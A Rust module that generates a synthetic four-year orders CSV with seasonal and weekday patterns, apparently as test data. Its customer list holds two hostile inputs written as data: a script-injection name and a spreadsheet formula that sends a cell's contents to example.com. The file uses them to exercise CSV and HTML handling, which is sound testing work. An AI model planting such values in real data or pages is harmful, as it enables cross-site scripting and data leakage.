//! Four years of orders, with weekends, seasons and growth.

use std::{f64::consts::TAU, fmt::Write};

use jiff::{ToSpan, civil::Date};
use rand::{RngExt, SeedableRng, rngs::ChaCha8Rng};

const FIRST_DAY: Date = Date::constant(2023, 1, 1);
const LAST_DAY: Date = Date::constant(2026, 12, 31);
const ORDERS_A_DAY: f64 = 5.5;

const REGIONS: [&str; 4] = ["North", "South", "East", "West"];

/// With their prices in cents.
const PRODUCTS: [(&str, i64); 8] = [
    ("Notebook", 450),
    ("Desk lamp", 3_990),
    ("Webcam", 6_400),
    ("Headset", 8_900),
    ("Dock", 14_900),
    ("Chair", 18_900),
    ("Monitor", 27_900),
    ("Standing desk", 42_900),
];

/// Some are what an attacker would sign up with, quoted as CSV wants it.
const CUSTOMERS: [&str; 20] = [
    "Acme Works",
    "Blue Harbour",
    "Cedar & Stone",
    "Delta Print",
    "Easton Clinic",
    "Fjord Foods",
    "Granite Legal",
    "Hillside School",
    "Ivory Audio",
    "Juniper Travel",
    "Kestrel Labs",
    "Lakeview Hotel",
    "Müller & Söhne",
    "Northgate Bank",
    "\"O'Brien, Walsh & Co\"",
    "Pine Street Books",
    "Quarry Tools",
    "\"<script>alert(\"\"sold\"\")</script> Ltd\"",
    "\"=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Open\"\")\"",
    "@home Supplies",
];

/// The content of `orders.csv`.
#[must_use]
pub fn orders(seed: u64) -> String {
    let mut random = ChaCha8Rng::seed_from_u64(seed);
    let mut text = String::from("date,customer,region,product,quantity,amount\n");
    for (day, date) in FIRST_DAY.series(1.day()).take_while(|date| *date <= LAST_DAY).enumerate() {
        for _ in 0..orders_on(day, date, &mut random) {
            let customer = CUSTOMERS[favouring_the_first(CUSTOMERS.len(), &mut random)];
            let region = REGIONS[random.random_range(0..REGIONS.len())];
            let (product, price) = PRODUCTS[random.random_range(0..PRODUCTS.len())];
            let quantity: i64 =
                if price < 10_000 { random.random_range(1..=12) } else { random.random_range(1..=3) };
            let discount_percent = if quantity >= 10 { 5 } else { 0 };
            let cents = price * quantity * (100 - discount_percent) / 100;
            let (units, rest) = (cents / 100, cents % 100);
            writeln!(text, "{date},{customer},{region},{product},{quantity},{units}.{rest:02}")
                .expect("a String takes all");
        }
    }
    text
}

fn orders_on(day: usize, date: Date, random: &mut ChaCha8Rng) -> usize {
    let years = day as f64 / 365.25;
    // Most in late November, fewest in late May.
    let season = 1.0 + 0.35 * (TAU * (f64::from(date.day_of_year()) - 330.0) / 365.25).cos();
    let growth = 1.0 + 0.12 * years;
    let weekday = if date.weekday().to_monday_zero_offset() >= 5 { 0.35 } else { 1.0 };
    let expected = ORDERS_A_DAY * season * growth * weekday;
    (expected + 0.25 * expected * super::normal(random) + random.random::<f64>()).max(0.0) as usize
}

/// An index, the first about three times as likely as the last.
fn favouring_the_first(count: usize, random: &mut ChaCha8Rng) -> usize {
    let draw: f64 = random.random();
    ((draw.powf(1.5) * count as f64) as usize).min(count - 1)
}
